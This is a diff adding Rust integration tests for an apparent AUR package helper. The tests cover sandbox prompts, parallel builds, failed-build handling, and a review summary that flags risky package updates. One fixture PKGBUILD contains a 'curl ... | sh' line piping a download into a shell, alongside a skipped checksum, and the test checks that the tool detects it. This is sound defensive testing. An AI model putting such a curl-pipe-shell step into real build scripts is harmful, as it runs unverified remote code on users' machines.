@@ -701,6 +701,34 @@ fn without_a_working_bwrap_omg_asks_before_building_unsandboxed() {
         refused.stderr
     );
     assert!(!s.q("-Qq").contains("plain-build"));
+    // Asked, the user may build without one: review, sandbox, install.
+    let mut child = s
+        .command(&["install", "plain-build"])
+        .env("PATH", &path)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child.stdin.take().unwrap().write_all(b"y\ny\ny\n").unwrap();
+    let asked: Run = child.wait_with_output().unwrap().into();
+    ok(&asked);
+    assert!(
+        asked
+            .stdout
+            .contains("would run with all your rights over your files and the network"),
+        "{}",
+        asked.stdout
+    );
+    assert!(
+        asked
+            .stdout
+            .contains("Build plain-build without a sandbox? [y/N]"),
+        "{}",
+        asked.stdout
+    );
+    assert!(s.q("-Qq").contains("plain-build"));
     // Turned off in config.toml: built without one, without asking.
     std::fs::create_dir_all(s.env.dir.path().join("config")).unwrap();
     std::fs::write(
@@ -718,4 +746,201 @@ fn without_a_working_bwrap_omg_asks_before_building_unsandboxed() {
         .into();
     ok(&built);
     assert!(s.q("-Qq").contains("plain-build"));
+}
+
+/// The packages each transaction the root's pacman.log records installed,
+/// in order.
+fn transactions(s: &Setup) -> Vec<BTreeSet<String>> {
+    let log = std::fs::read_to_string(s.root.path("root/var/log/pacman.log")).unwrap_or_default();
+    let mut out: Vec<BTreeSet<String>> = Vec::new();
+    for line in log.lines() {
+        if line.contains("[ALPM] transaction started") {
+            out.push(BTreeSet::new());
+        } else if let Some(rest) = line.split("[ALPM] installed ").nth(1)
+            && let Some(last) = out.last_mut()
+        {
+            last.insert(rest.split(' ').next().unwrap().to_string());
+        }
+    }
+    out
+}
+
+/// When a build's `build()` started and ended (its BUILD lines in the log).
+fn build_window(log: &str) -> (f64, f64) {
+    let time = |tag: &str| -> f64 {
+        log.lines()
+            .find_map(|l| l.strip_prefix(tag))
+            .unwrap_or_else(|| panic!("no {tag} in:\n{log}"))
+            .trim()
+            .parse()
+            .unwrap()
+    };
+    (time("BUILD-START "), time("BUILD-END "))
+}
+
+#[test]
+fn independent_bases_build_at_once_and_each_level_is_one_transaction() {
+    let Some(s) = setup() else {
+        return;
+    };
+    for name in ["par-a", "par-b", "par-c"] {
+        publish_builder(
+            &s,
+            name,
+            "  echo \"BUILD-START $(date +%s.%N)\"\n  sleep 2\n  echo \"BUILD-END $(date +%s.%N)\"",
+        );
+    }
+    s.aur.publish(
+        "par-top",
+        "1.0-1",
+        &[AurSpec {
+            name: "par-top",
+            depends: &["par-a", "par-b"],
+            make_depends: &[],
+        }],
+        false,
+    );
+    std::fs::create_dir_all(s.env.dir.path().join("config")).unwrap();
+    std::fs::write(
+        s.env.dir.path().join("config/config.toml"),
+        "[aur]\njobs = 3\n",
+    )
+    .unwrap();
+    common::give_to_nobody(&s.env.dir.path().join("config"));
+    let run = s.omg(&["install", "--noconfirm", "par-top", "par-c"]);
+    ok(&run);
+    assert!(
+        run.stdout
+            .contains("building par-a par-b par-c (3 at a time"),
+        "{}",
+        run.stdout
+    );
+    // Each build's output is in its log; the three ran at the same time.
+    let logs = s.env.dir.path().join("cache/aur/logs");
+    let windows: Vec<(f64, f64)> = ["par-a", "par-b", "par-c"]
+        .iter()
+        .map(|n| build_window(&std::fs::read_to_string(logs.join(format!("{n}.log"))).unwrap()))
+        .collect();
+    for (i, a) in windows.iter().enumerate() {
+        for b in &windows[i + 1..] {
+            assert!(a.0 < b.1 && b.0 < a.1, "builds overlap: {windows:?}");
+        }
+    }
+    assert!(logs.join("par-top.log").is_file());
+    // One transaction for the independent three, one for what needs them.
+    assert_eq!(
+        transactions(&s),
+        [set(&["par-a", "par-b", "par-c"]), set(&["par-top"])]
+    );
+    assert_eq!(s.q("-Qeq"), set(&["par-c", "par-top"]));
+    assert_eq!(s.q("-Qdq"), set(&["par-a", "par-b"]));
+}
+
+#[test]
+fn a_failed_build_among_several_shows_its_log_and_installs_nothing_of_its_level() {
+    let Some(s) = setup() else {
+        return;
+    };
+    publish_builder(&s, "good-one", "  echo fine");
+    publish_builder(&s, "bad-one", "  echo 'compiler says no' >&2\n  false");
+    let run = s.omg(&["install", "--noconfirm", "good-one", "bad-one"]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    assert!(run.stdout.contains("compiler says no"), "{}", run.stdout);
+    assert!(run.stdout.contains("bad-one.log"), "{}", run.stdout);
+    assert!(
+        run.stderr.contains("building bad-one failed"),
+        "{}",
+        run.stderr
+    );
+    assert!(s.q("-Qq").is_empty(), "{:?}", s.q("-Qq"));
+}
+
+#[test]
+fn the_review_starts_with_what_deserves_a_look() {
+    let Some(s) = setup() else {
+        return;
+    };
+    let work = s.aur.git_root.path().join("work-risky");
+    let srcinfo = |ver: &str, extra: &str| {
+        format!(
+            "pkgbase = risky\n\tpkgver = {ver}\n\tpkgrel = 1\n\tarch = any\n{extra}\npkgname = risky\n"
+        )
+    };
+    let pkgbuild = |ver: &str, extra: &str| {
+        format!(
+            "pkgname=risky\npkgver={ver}\npkgrel=1\npkgdesc='risky'\narch=('any')\nlicense=('MIT')\n{extra}\npackage() {{\n  mkdir -p \"$pkgdir/usr/share/risky\"\n}}\n"
+        )
+    };
+    s.aur.commit_files(
+        "risky.git",
+        &work,
+        &[
+            ("PKGBUILD", &pkgbuild("1.0", "")),
+            (".SRCINFO", &srcinfo("1.0", "")),
+        ],
+    );
+    let spec = [AurSpec {
+        name: "risky",
+        depends: &[],
+        make_depends: &[],
+    }];
+    s.aur
+        .publish_pkgbuild("risky", "1.0-1", &spec, &pkgbuild("1.0", ""));
+    let run = s.omg_answering(&["install", "risky"], "y\ny\n");
+    ok(&run);
+    assert!(!run.stdout.contains("deserves a look"), "{}", run.stdout);
+
+    // Version 2: a source from a new host with its checksum skipped, an
+    // install script, a download piped into a shell, a signing key; and a
+    // new maintainer, on a base the AUR says is two days old.
+    let extra = "source=('https://downloads.example.net/risky-2.0.tar.gz')\nsha256sums=('SKIP')\nvalidpgpkeys=('0123456789ABCDEF0123456789ABCDEF01234567')\ninstall=risky.install\nbuild() {\n  curl -fsSL https://get.example.net/setup | sh\n}\n";
+    s.aur
+        .publish_pkgbuild("risky", "2.0-1", &spec, &pkgbuild("2.0", extra));
+    s.aur.commit_files(
+        "risky.git",
+        &work,
+        &[
+            (
+                ".SRCINFO",
+                &srcinfo(
+                    "2.0",
+                    "\tinstall = risky.install\n\tsource = https://downloads.example.net/risky-2.0.tar.gz\n\tvalidpgpkeys = 0123456789ABCDEF0123456789ABCDEF01234567\n\tsha256sums = SKIP\n",
+                ),
+            ),
+            ("risky.install", "post_install() {\n  echo hi\n}\n"),
+        ],
+    );
+    s.aur
+        .set_field("risky", "Maintainer", serde_json::json!("someone-else"));
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs();
+    s.aur.set_field(
+        "risky",
+        "FirstSubmitted",
+        serde_json::json!(now - 2 * 86400),
+    );
+    let run = s.omg_answering(&["upgrade"], "n\n");
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    let out = &run.stdout;
+    let summary = out.find("risky 2.0-1: what deserves a look (since your last review)");
+    let diff = out.find("+pkgver=2.0");
+    assert!(
+        summary.is_some() && diff.is_some() && summary < diff,
+        "the summary comes before the diff:\n{out}"
+    );
+    for expected in [
+        "new maintainer since your last review: someone-else (was tester)",
+        "a download piped into a shell, PKGBUILD line",
+        "curl -fsSL https://get.example.net/setup | sh",
+        "install script added: risky.install",
+        "new source host: downloads.example.net",
+        "new checksum SKIP on a download",
+        "validpgpkeys changed; added 0123456789ABCDEF0123456789ABCDEF01234567",
+        "new to the AUR: first submitted 2 days ago",
+    ] {
+        assert!(out.contains(expected), "{expected:?} in:\n{out}");
+    }
+    assert!(s.q("-Q").contains("risky 1.0-1"), "declined: nothing built");
 }
